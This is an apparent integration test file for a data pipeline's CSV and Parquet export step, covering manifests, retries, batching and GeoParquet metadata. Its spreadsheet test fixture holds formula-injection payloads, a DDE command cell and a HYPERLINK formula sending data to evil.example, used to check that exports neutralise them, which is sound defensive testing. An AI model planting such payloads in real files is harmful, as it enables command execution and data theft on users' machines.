import { createHash } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { GetObjectCommand, HeadObjectCommand, ListObjectsV2Command } from '@aws-sdk/client-s3';
import { s3Client } from '../../functions/common/aws.ts';
import { cleanLoad, type CleanDeps } from '../../functions/clean/clean-load.ts';
import { csvExpression, exportAfterBatch, neutraliseCell, type ExportManifest, type ExportSettings } from '../../functions/combine/exports.ts';
import { stageObject, type StageDeps } from '../../functions/stage/stage-object.ts';
import type { PipelineInput } from '../../contract/definition.ts';
import { parsePipeline } from '../../contract/load.ts';
import { recordedLines, recordingParquet, type RecordedLine } from '../helpers/parquet-recorder.ts';
import { parse as parseCsv } from 'csv-parse/sync';
import { freshBucket, freshProject, put, rows } from './support.ts';

const SITE_COLUMNS = 'site_id, name, opened, visitors, free, score, inspected, geom';

const definition: PipelineInput = {
  project: 'it_exports',
  suppliers: [{ name: 'city' }],
  datasets: [
    {
      name: 'sites',
      source: { type: 'upload', supplier: 'city' },
      geometry: { from: { lat: 'Lat', lon: 'Lon' } },
      clean: {
        columns: [
          { name: 'site_id', source: 'Site ID', type: 'integer' },
          { name: 'name', source: 'Site Name' },
          { name: 'opened', source: 'Opened', type: 'date' },
          { name: 'visitors', source: 'Visitors', type: 'bigint' },
          { name: 'free', source: 'Free?', type: 'boolean' },
          { name: 'score', source: 'Score', type: 'numeric' },
          { name: 'inspected', source: 'Inspected', type: 'timestamp' },
        ],
        key: ['site_id'],
      },
    },
    {
      name: 'notes',
      source: { type: 'upload', supplier: 'city' },
      clean: {
        columns: [
          { name: 'id', source: 'Id', type: 'integer' },
          { name: 'note', source: 'Note' },
          { name: 'amount', source: 'Amount', type: 'numeric' },
          { name: 'code', source: 'Code' },
        ],
      },
    },
    {
      name: 'parcels',
      source: { type: 'upload', supplier: 'city' },
      read: { srid: 28992 },
      geometry: { srid: 28992, from: { wkt: 'WKT' } },
      clean: { columns: [{ name: 'parcel', source: 'Parcel' }] },
    },
  ],
  views: [
    { name: 'sites_open', datasets: ['sites'], sql: `SELECT ${SITE_COLUMNS} FROM {{schema}}.sites ORDER BY site_id`, export: { formats: ['csv'] } },
    { name: 'sites_gold', datasets: ['sites'], sql: `SELECT ${SITE_COLUMNS} FROM {{schema}}.sites ORDER BY site_id`, export: { formats: ['parquet', 'csv'] } },
    { name: 'parcels_gold', datasets: ['parcels'], sql: 'SELECT parcel, geom FROM {{schema}}.parcels ORDER BY parcel', export: { formats: ['parquet'] } },
    {
      name: 'notes_gold',
      datasets: ['notes'],
      // a tab and a CR the clean step would not keep at the start of a cell; a header a supplier's file could give
      sql: `SELECT id, note, amount, code AS "@code" FROM {{schema}}.notes UNION ALL SELECT 7, E'\\tafter a tab', -0.25, E'\\rafter a CR' ORDER BY 1`,
      export: { formats: ['parquet', 'csv'] },
    },
    { name: 'sites_internal', datasets: ['sites'], sql: 'SELECT site_id FROM {{schema}}.sites' },
  ],
};

const SITES = [
  'Site ID,Site Name,Opened,Visitors,Free?,Score,Inspected,Lat,Lon',
  '1,"Harbour Park",2021-04-01,1200,yes,4.5,2024-03-01 12:34:56,52.37,4.89',
  '2,"Museum, ""Modern""",2019-06-30,9007199254740993,no,,2024-03-02T08:00:00,52.36,4.88',
  '3,"Two\nlines",,,,,,,',
  '4,"Library",2018-01-15,50,true,3.25,,48.85,2.35',
  '',
].join('\n');

const PARCELS = ['Parcel,WKT', 'A1,"POLYGON((121000 487000,121100 487000,121100 487100,121000 487000))"', 'B2,"POLYGON((122000 488000,122050 488000,122050 488060,122000 488000))"', ''].join('\n');

let bucket: string;
let stageDeps: StageDeps;
let cleanDeps: CleanDeps;

/** Export settings for these tests: small batches and row groups, the recording Parquet writer, no pause between tries. */
function settings(over: Partial<ExportSettings> = {}): ExportSettings {
  return { s3: s3Client(), bucket, limits: { fetchRows: 2, rowGroupRows: 2, attempts: 2, retryDelayMs: 0 }, parquet: recordingParquet(), ...over };
}

async function stage(dataset: string, file: string, body: string): Promise<number> {
  const staged = await stageObject(stageDeps, await put(bucket, `incoming/city/${dataset}/${file}`, body));
  if (staged.status !== 'staged') throw new Error(`not staged: ${JSON.stringify(staged)}`);
  return staged.loadId;
}

async function text(key: string): Promise<string> {
  const out = await s3Client().send(new GetObjectCommand({ Bucket: bucket, Key: key }));
  return out.Body!.transformToString('utf-8');
}

async function bytes(key: string): Promise<Buffer> {
  const out = await s3Client().send(new GetObjectCommand({ Bucket: bucket, Key: key }));
  return Buffer.from(await out.Body!.transformToByteArray());
}

async function latest(view: string): Promise<{ run: string; manifest: string; rowCount: number; files: Record<string, string> }> {
  return JSON.parse(await text(`curated/it_exports/${view}/latest.json`));
}

async function manifestOf(view: string): Promise<ExportManifest> {
  return JSON.parse(await text((await latest(view)).manifest)) as ExportManifest;
}

async function exportsOf(view: string, loadId?: number) {
  return rows<{ status: string; attempts: number; error: string | null; run: string; row_count: string | null }>(
    cleanDeps.pool,
    `SELECT status, attempts, error, run, row_count FROM etl.exports WHERE project = 'it_exports' AND view = $1 AND ($2::bigint IS NULL OR load_id = $2) ORDER BY id`,
    [view, loadId ?? null],
  );
}

async function wkbHex(wkt: string): Promise<string> {
  return (await rows<{ h: string }>(cleanDeps.pool, `SELECT encode(ST_AsBinary($1::geometry), 'hex') AS h`, [wkt]))[0]!.h;
}

const days = (iso: string) => Date.parse(`${iso}T00:00:00Z`) / 86_400_000;

beforeAll(async () => {
  const { pipeline, pool } = await freshProject(definition);
  await pool.query(`DELETE FROM etl.exports WHERE project = 'it_exports'`);
  bucket = await freshBucket('it-exports');
  stageDeps = { pool, s3: s3Client(), pipeline, notifyClean: async () => undefined };
  cleanDeps = { pool, pipeline, exports: settings() };
});

describe('exports after a clean', () => {
  let loadId: number;
  beforeAll(async () => {
    loadId = await stage('sites', 'sites.csv', SITES);
    const outcome = await cleanLoad(cleanDeps, loadId);
    expect(outcome).toMatchObject({ status: 'loaded', rowsLoaded: 4 });
  });

  it('writes the view as RFC 4180 CSV: UTF-8, a header, CRLF records, quotes doubled, line breaks kept inside quotes, geometry as WKT', async () => {
    const { files } = await latest('sites_open');

    expect(await text(files.csv!)).toBe(
      [
        'site_id,name,opened,visitors,free,score,inspected,geom',
        '1,"Harbour Park",2021-04-01,1200,true,4.5,2024-03-01 12:34:56,POINT(4.89 52.37)',
        '2,"Museum, ""Modern""",2019-06-30,9007199254740993,false,,2024-03-02 08:00:00,POINT(4.88 52.36)',
        '3,"Two\nlines",,,,,,',
        '4,"Library",2018-01-15,50,true,3.25,,POINT(2.35 48.85)',
        '',
      ].join('\r\n'),
    );
  });

  it("writes a manifest with the row count, columns and types, each file's bytes and sha256, and the loads the data comes from", async () => {
    const manifest = await manifestOf('sites_gold');
    const csv = manifest.files.find((f) => f.format === 'csv')!;
    const body = await bytes(csv.key);
    const head = await s3Client().send(new HeadObjectCommand({ Bucket: bucket, Key: csv.key }));

    expect(manifest).toMatchObject({
      project: 'it_exports',
      view: 'sites_gold',
      rowCount: 4,
      formats: ['parquet', 'csv'],
      trigger: { loadId, dataset: 'sites' },
      sourceLoads: [{ dataset: 'sites', loads: 1, latest: [{ loadId, objectKey: 'incoming/city/sites/sites.csv' }] }],
      geometry: [{ column: 'geom', srid: 4326, crs: 'OGC:CRS84', types: ['Point'], bbox: [2.35, 48.85, 4.89, 52.37] }],
    });
    expect(manifest.columns).toEqual([
      { name: 'site_id', type: 'integer', parquet: 'INT32' },
      { name: 'name', type: 'text', parquet: 'BYTE_ARRAY STRING', csv: "quoted; a ' before a cell starting with = + - @ tab or CR" },
      { name: 'opened', type: 'date', parquet: 'INT32 DATE' },
      { name: 'visitors', type: 'bigint', parquet: 'INT64' },
      { name: 'free', type: 'boolean', parquet: 'BOOLEAN', csv: 'true/false' },
      { name: 'score', type: 'numeric', parquet: 'DOUBLE' },
      { name: 'inspected', type: 'timestamp without time zone', parquet: 'INT64 TIMESTAMP(MICROS, local)' },
      { name: 'geom', type: 'geometry(Point,4326)', parquet: 'BYTE_ARRAY', csv: 'WKT' },
    ]);
    expect(csv).toMatchObject({ key: expect.stringMatching(/^curated\/it_exports\/sites_gold\/\d{8}T\d{9}Z-load\d+\/sites_gold\.csv$/), bytes: body.length });
    expect(head.ContentLength).toBe(body.length);
    expect(csv.sha256).toBe(createHash('sha256').update(body).digest('hex'));
    expect(Date.parse(manifest.createdAt)).toBeGreaterThan(Date.now() - 600_000);
  });

  it('writes the Parquet file one row group at a time, with typed values and GeoParquet metadata for the geometry', async () => {
    const manifest = await manifestOf('sites_gold');
    const parquet = manifest.files.find((f) => f.format === 'parquet')!;
    const lines: RecordedLine[] = recordedLines(await text(parquet.key));

    expect(lines[0]).toEqual({
      schema: [
        { name: 'schema', num_children: 8 },
        { name: 'site_id', repetition_type: 'OPTIONAL', type: 'INT32' },
        { name: 'name', repetition_type: 'OPTIONAL', type: 'BYTE_ARRAY', converted_type: 'UTF8', logical_type: { type: 'STRING' } },
        { name: 'opened', repetition_type: 'OPTIONAL', type: 'INT32', converted_type: 'DATE', logical_type: { type: 'DATE' } },
        { name: 'visitors', repetition_type: 'OPTIONAL', type: 'INT64' },
        { name: 'free', repetition_type: 'OPTIONAL', type: 'BOOLEAN' },
        { name: 'score', repetition_type: 'OPTIONAL', type: 'DOUBLE' },
        { name: 'inspected', repetition_type: 'OPTIONAL', type: 'INT64', logical_type: { type: 'TIMESTAMP', isAdjustedToUTC: false, unit: 'MICROS' } },
        { name: 'geom', repetition_type: 'OPTIONAL', type: 'BYTE_ARRAY' },
      ],
    });
    // rowGroupRows 2: four rows make two groups
    expect(lines.slice(1, -1)).toEqual([
      {
        rowGroup: 2,
        columns: {
          site_id: [1, 2],
          name: ['Harbour Park', 'Museum, "Modern"'],
          opened: [days('2021-04-01'), days('2019-06-30')],
          visitors: ['1200n', '9007199254740993n'],
          free: [true, false],
          score: [4.5, null],
          inspected: [`${Date.UTC(2024, 2, 1, 12, 34, 56) * 1000}n`, `${Date.UTC(2024, 2, 2, 8) * 1000}n`],
          geom: [`hex:${await wkbHex('POINT(4.89 52.37)')}`, `hex:${await wkbHex('POINT(4.88 52.36)')}`],
        },
      },
      {
        rowGroup: 2,
        columns: {
          site_id: [3, 4],
          name: ['Two\nlines', 'Library'],
          opened: [null, days('2018-01-15')],
          visitors: [null, '50n'],
          free: [null, true],
          score: [null, 3.25],
          inspected: [null, null],
          geom: [null, `hex:${await wkbHex('POINT(2.35 48.85)')}`],
        },
      },
    ]);
    const footer = lines.at(-1) as { footer: { key: string; value: string }[] };
    expect(footer.footer.map((kv) => kv.key)).toEqual(['geo']);
    // EPSG:4326 is GeoParquet's default CRS (OGC:CRS84, longitude first): no crs member
    expect(JSON.parse(footer.footer[0]!.value)).toEqual({
      version: '1.1.0',
      primary_column: 'geom',
      columns: { geom: { encoding: 'WKB', geometry_types: ['Point'], bbox: [2.35, 48.85, 4.89, 52.37] } },
    });
    expect(parquet.bytes).toBe((await bytes(parquet.key)).length);
  });

  it('points latest.json at the run, and records the export in etl.exports', async () => {
    const pointer = await latest('sites_gold');
    const manifest = await manifestOf('sites_gold');

    expect(pointer).toMatchObject({ run: manifest.run, rowCount: 4, manifest: `curated/it_exports/sites_gold/${manifest.run}/_manifest.json` });
    expect(pointer.files).toEqual({ parquet: `curated/it_exports/sites_gold/${manifest.run}/sites_gold.parquet`, csv: `curated/it_exports/sites_gold/${manifest.run}/sites_gold.csv` });
    expect(await exportsOf('sites_gold', loadId)).toEqual([{ status: 'exported', attempts: 1, error: null, run: manifest.run, row_count: '4' }]);
  });

  it('exports only the views marked for export that read the cleaned dataset', async () => {
    const listed = await s3Client().send(new ListObjectsV2Command({ Bucket: bucket, Prefix: 'curated/it_exports/', Delimiter: '/' }));

    expect((listed.CommonPrefixes ?? []).map((p) => p.Prefix).sort()).toContain('curated/it_exports/sites_gold/');
    expect((listed.CommonPrefixes ?? []).map((p) => p.Prefix).sort()).not.toContain('curated/it_exports/sites_internal/');
  });

  it('exports again after the next clean, into a new run, and moves latest.json forward', async () => {
    const before = await latest('sites_open');
    const next = await stage('sites', 'sites-2.csv', 'Site ID,Site Name,Opened,Visitors,Free?,Score,Inspected,Lat,Lon\n7,Pier,2022-05-05,5,no,1,,52.4,4.9\n');
    expect(await cleanLoad(cleanDeps, next)).toMatchObject({ status: 'loaded' });

    const after = await latest('sites_open');
    expect(after.run > before.run).toBe(true);
    expect(await text(after.files.csv!)).toBe('site_id,name,opened,visitors,free,score,inspected,geom\r\n7,"Pier",2022-05-05,5,false,1,,POINT(4.9 52.4)\r\n');
    // the earlier run stays as it was
    expect((await text(before.files.csv!)).split('\r\n')).toHaveLength(6);
  });
});

describe('a failed export', () => {
  it('leaves the load loaded, is recorded with its error after its tries, and a returning clean message exports it', async () => {
    const loadId = await stage('sites', 'sites-3.csv', 'Site ID,Site Name,Opened,Visitors,Free?,Score,Inspected,Lat,Lon\n8,Quay,,,,,,52.41,4.91\n');
    const broken = { ...cleanDeps, exports: settings({ bucket: 'it-exports-no-such-bucket' }) };

    expect(await cleanLoad(broken, loadId)).toMatchObject({ status: 'loaded', rowsLoaded: 1 });
    expect(await rows(cleanDeps.pool, 'SELECT status FROM etl.loads WHERE id = $1', [loadId])).toEqual([{ status: 'loaded' }]);
    const failed = await exportsOf('sites_open', loadId);
    expect(failed).toEqual([{ status: 'failed', attempts: 2, error: expect.stringMatching(/bucket/i), run: expect.any(String), row_count: null }]);

    // the message comes back (the function stopped before it was acknowledged): the load is not cleaned twice, its exports run
    expect(await cleanLoad(cleanDeps, loadId)).toEqual({ status: 'duplicate', loadId });
    expect((await exportsOf('sites_open', loadId)).map((e) => e.status)).toEqual(['failed', 'exported']);
    expect(await text((await latest('sites_open')).files.csv!)).toContain('8,"Quay"');

    // and once more: nothing left to do
    await cleanLoad(cleanDeps, loadId);
    expect(await exportsOf('sites_open', loadId)).toHaveLength(2);
  });
});

describe('an export that fails in the database', () => {
  it('is recorded as failed after its tries, while the load and the other views go on', async () => {
    const withBroken = parsePipeline({
      ...definition,
      views: [...definition.views!, { name: 'sites_broken', datasets: ['sites'], sql: 'SELECT 1 / (site_id - site_id) AS boom FROM {{schema}}.sites', export: { formats: ['csv'] } }],
    });
    const loadId = await stage('sites', 'sites-6.csv', 'Site ID,Site Name,Opened,Visitors,Free?,Score,Inspected,Lat,Lon\n10,Lock,,,,,,52.43,4.93\n');

    expect(await cleanLoad({ ...cleanDeps, pipeline: withBroken }, loadId)).toMatchObject({ status: 'loaded', rowsLoaded: 1 });
    expect(await exportsOf('sites_broken', loadId)).toEqual([{ status: 'failed', attempts: 2, error: 'division by zero', run: expect.any(String), row_count: null }]);
    await expect(text('curated/it_exports/sites_broken/latest.json')).rejects.toThrow(/key/i);
    expect((await exportsOf('sites_open', loadId)).map((e) => e.status)).toEqual(['exported']);
  });
});

describe('a clean message delivered twice at once', () => {
  it('exports each view once', async () => {
    const loadId = await stage('sites', 'sites-5.csv', 'Site ID,Site Name,Opened,Visitors,Free?,Score,Inspected,Lat,Lon\n9,Dock,,,,,,52.42,4.92\n');

    const outcomes = await Promise.all([cleanLoad(cleanDeps, loadId), cleanLoad(cleanDeps, loadId)]);

    expect(outcomes.map((o) => o.status).sort()).toEqual(['duplicate', 'loaded']);
    for (const view of ['sites_open', 'sites_gold']) {
      expect((await exportsOf(view, loadId)).map((e) => e.status)).toEqual(['exported']);
    }
  });
});

describe('a batch of cleans (one clean function invocation)', () => {
  it('exports each view its loads touched once, after the last of them, from the newest load; a redelivered batch finds them done', async () => {
    const header = 'Site ID,Site Name,Opened,Visitors,Free?,Score,Inspected,Lat,Lon';
    const sites = [
      await stage('sites', 'batch-1.csv', `${header}\n21,Alpha,,,,,,52.1,4.1\n`),
      await stage('sites', 'batch-2.csv', `${header}\n22,Beta,,,,,,52.2,4.2\n`),
      await stage('sites', 'batch-3.csv', `${header}\n23,Gamma,,,,,,52.3,4.3\n`),
    ];
    const parcels = await stage('parcels', 'batch-parcels.csv', PARCELS);
    const cleaned: number[] = [];
    const deferred = { ...cleanDeps, deferExports: (id: number) => cleaned.push(id) };
    for (const loadId of [...sites, parcels]) expect(await cleanLoad(deferred, loadId)).toMatchObject({ status: 'loaded' });
    // nothing exported while the batch runs
    for (const loadId of [...sites, parcels]) expect(await rows(cleanDeps.pool, 'SELECT 1 FROM etl.exports WHERE load_id = $1', [loadId])).toEqual([]);
    expect(cleaned).toEqual([...sites, parcels]);

    const outcomes = await exportAfterBatch({ ...settings(), pool: cleanDeps.pool, pipeline: cleanDeps.pipeline }, cleaned);
    expect(outcomes.map((o) => [o.view, o.status]).sort()).toEqual([
      ['parcels_gold', 'exported'],
      ['sites_gold', 'exported'],
      ['sites_open', 'exported'],
    ]);
    // once per view, triggered by the newest load of a dataset it reads
    for (const view of ['sites_open', 'sites_gold']) {
      expect(await rows(cleanDeps.pool, `SELECT load_id::int AS load_id FROM etl.exports WHERE project = 'it_exports' AND view = $1 AND load_id = ANY($2::bigint[])`, [view, sites])).toEqual([
        { load_id: sites[2] },
      ]);
    }
    expect(await exportsOf('parcels_gold', parcels)).toHaveLength(1);
    // the file holds what the last clean left (mode replace: the third file's row)
    expect(await text((await latest('sites_open')).files.csv!)).toBe('site_id,name,opened,visitors,free,score,inspected,geom\r\n23,"Gamma",,,,,,POINT(4.3 52.3)\r\n');

    // the batch comes back (the function stopped before it returned): each message is a repeat, the exports are done
    const again: number[] = [];
    for (const loadId of [...sites, parcels]) expect(await cleanLoad({ ...cleanDeps, deferExports: (id: number) => again.push(id) }, loadId)).toEqual({ status: 'duplicate', loadId });
    const repeat = await exportAfterBatch({ ...settings(), pool: cleanDeps.pool, pipeline: cleanDeps.pipeline }, again);
    expect(repeat.map((o) => o.status)).toEqual(['current', 'current', 'current']);
    expect(await exportsOf('sites_open', sites[2])).toHaveLength(1);
  });
});

describe('a view in another coordinate system', () => {
  it('gives the GeoParquet geometry its CRS as PROJJSON, and the manifest its EPSG code (polygons are promoted to multi by the clean step)', async () => {
    const loadId = await stage('parcels', 'parcels.csv', PARCELS);
    expect(await cleanLoad(cleanDeps, loadId)).toMatchObject({ status: 'loaded', rowsLoaded: 2 });

    const manifest = await manifestOf('parcels_gold');
    const lines = recordedLines(await text(manifest.files[0]!.key));
    const geo = JSON.parse((lines.at(-1) as { footer: { key: string; value: string }[] }).footer[0]!.value);

    expect(manifest.geometry).toEqual([{ column: 'geom', srid: 28992, crs: 'EPSG:28992', types: ['MultiPolygon'], bbox: [121000, 487000, 122050, 488060] }]);
    expect(geo.columns.geom).toMatchObject({ encoding: 'WKB', geometry_types: ['MultiPolygon'], bbox: [121000, 487000, 122050, 488060] });
    expect(geo.columns.geom.crs).toMatchObject({ type: 'ProjectedCRS', name: 'Amersfoort / RD New', id: { authority: 'EPSG', code: 28992 } });
  });
});

const readerPackage = 'hyparquet';

describe('Parquet written by hyparquet-writer', () => {
  it('is a Parquet file that reads back with the same rows, types and GeoParquet geometry', async () => {
    const reader = (await import(readerPackage)) as {
      parquetMetadata(buffer: ArrayBuffer): { num_rows: bigint; row_groups: unknown[]; key_value_metadata?: { key: string; value: string }[] };
      parquetReadObjects(options: { file: ArrayBuffer }): Promise<Record<string, unknown>[]>;
    };
    const real = { ...cleanDeps, exports: settings({ parquet: undefined }) };
    const loadId = await stage('sites', 'sites-4.csv', SITES);
    expect(await cleanLoad(real, loadId)).toMatchObject({ status: 'loaded' });

    const manifest = await manifestOf('sites_gold');
    const file = await bytes(manifest.files.find((f) => f.format === 'parquet')!.key);
    const buffer = file.buffer.slice(file.byteOffset, file.byteOffset + file.byteLength) as ArrayBuffer;
    const metadata = reader.parquetMetadata(buffer);
    const objects = await reader.parquetReadObjects({ file: buffer });

    expect(file.subarray(0, 4).toString()).toBe('PAR1');
    expect(file.subarray(-4).toString()).toBe('PAR1');
    expect(metadata.num_rows).toBe(4n);
    expect(metadata.row_groups).toHaveLength(2);
    expect(JSON.parse(metadata.key_value_metadata!.find((kv) => kv.key === 'geo')!.value)).toMatchObject({ primary_column: 'geom', columns: { geom: { encoding: 'WKB' } } });
    expect(objects.map((o) => [o.site_id, o.name, o.visitors, o.free, o.score])).toEqual([
      [1, 'Harbour Park', 1200n, true, 4.5],
      [2, 'Museum, "Modern"', 9007199254740993n, false, null],
      [3, 'Two\nlines', null, null, null],
      [4, 'Library', 50n, true, 3.25],
    ]);
    expect(new Date(objects[0]!.opened as Date).toISOString().slice(0, 10)).toBe('2021-04-01');
    expect(objects[0]!.geom).toMatchObject({ type: 'Point', coordinates: [4.89, 52.37] });
    expect(objects[2]!.geom ?? null).toBeNull();
  });
});

describe('a CSV export opened in a spreadsheet', () => {
  // what a hostile supplier puts in a text cell, as it arrives in the file
  const NOTES = [
    'Id,Note,Amount,Code',
    `1,"=cmd|' /C calc'!A0",-3.5,-3.5`,
    '2,+SUM(A1:A2),+2,+12',
    '3,@SUM(A1),0,@x',
    '4,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1e3,-1+2',
    '5,plain text,,',
    '6,- a dash and a space,-7,',
    '',
  ].join('\n');

  it('neutralises text cells that start with = + - @ tab or CR (a leading quote, the cell quoted), keeps numbers as numbers, and keeps the raw values in Parquet', async () => {
    const real = { ...cleanDeps, exports: settings({ parquet: undefined }) };
    const loadId = await stage('notes', 'notes.csv', NOTES);
    expect(await cleanLoad(real, loadId)).toMatchObject({ status: 'loaded', rowsLoaded: 6 });
    const manifest = await manifestOf('notes_gold');

    const csv = await text(manifest.files.find((f) => f.format === 'csv')!.key);
    const records = parseCsv(csv, { record_delimiter: '\r\n' }) as string[][];
    expect(records).toEqual([
      ['id', 'note', 'amount', "'@code"],
      ['1', "'=cmd|' /C calc'!A0", '-3.5', '-3.5'],
      ['2', "'+SUM(A1:A2)", '2', '+12'],
      ['3', "'@SUM(A1)", '0', "'@x"],
      ['4', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, '1000', "'-1+2"],
      ['5', 'plain text', '', ''],
      ['6', "'- a dash and a space", '-7', ''],
      ['7', "'\tafter a tab", '-0.25', "'\rafter a CR"],
    ]);
    // every text cell is quoted; numbers are not, so a spreadsheet reads -3.5 as a number
    expect(csv.split('\r\n')[1]).toBe(`1,"'=cmd|' /C calc'!A0",-3.5,"-3.5"`);
    // a NULL stays an empty unquoted field, told apart from an empty string
    expect(csv.split('\r\n')[5]).toBe('5,"plain text",,');

    const reader = (await import(readerPackage)) as { parquetReadObjects(options: { file: ArrayBuffer }): Promise<Record<string, unknown>[]> };
    const file = await bytes(manifest.files.find((f) => f.format === 'parquet')!.key);
    const objects = await reader.parquetReadObjects({ file: file.buffer.slice(file.byteOffset, file.byteOffset + file.byteLength) as ArrayBuffer });
    expect(objects.map((o) => [o.id, o.note, o.amount, o['@code']])).toEqual([
      [1, "=cmd|' /C calc'!A0", -3.5, '-3.5'],
      [2, '+SUM(A1:A2)', 2, '+12'],
      [3, '@SUM(A1)', 0, '@x'],
      [4, '=HYPERLINK("http://evil.example/?x="&A1,"click")', 1000, '-1+2'],
      [5, 'plain text', null, null],
      [6, '- a dash and a space', -7, null],
      [7, '\tafter a tab', -0.25, '\rafter a CR'],
    ]);
  });
});

describe('the neutralisation in SQL and in TypeScript', () => {
  it('agree on every kind of first character and on numbers (the COPY uses the SQL, headers the TypeScript)', async () => {
    const values = ['=1', '+1', '-1', '-1.5e3', '+.5', '-', '+', '@', '@a', '\t1', '\r1', '\n=1', ' =1', "'=1", '1-1', '-1-1', '--1', '-1e', '1e5', '', 'plain', '-0x1F', '=', '-.', '+1.', '−1'];
    const sql = csvExpression({ name: 'v', type: 'text', kind: 'text' });
    const { rows: out } = await cleanDeps.pool.query<{ v: string; n: string }>(`SELECT v, ${sql} AS n FROM unnest($1::text[]) AS t(v)`, [values]);
    expect(out.map((r) => [r.v, r.n])).toEqual(values.map((v) => [v, neutraliseCell(v)]));
    // and they do change something
    expect(out.filter((r) => r.n !== r.v).map((r) => r.v)).toEqual(['=1', '-', '+', '@', '@a', '\t1', '\r1', '-1-1', '--1', '-1e', '-0x1F', '=', '-.']);
  });
});
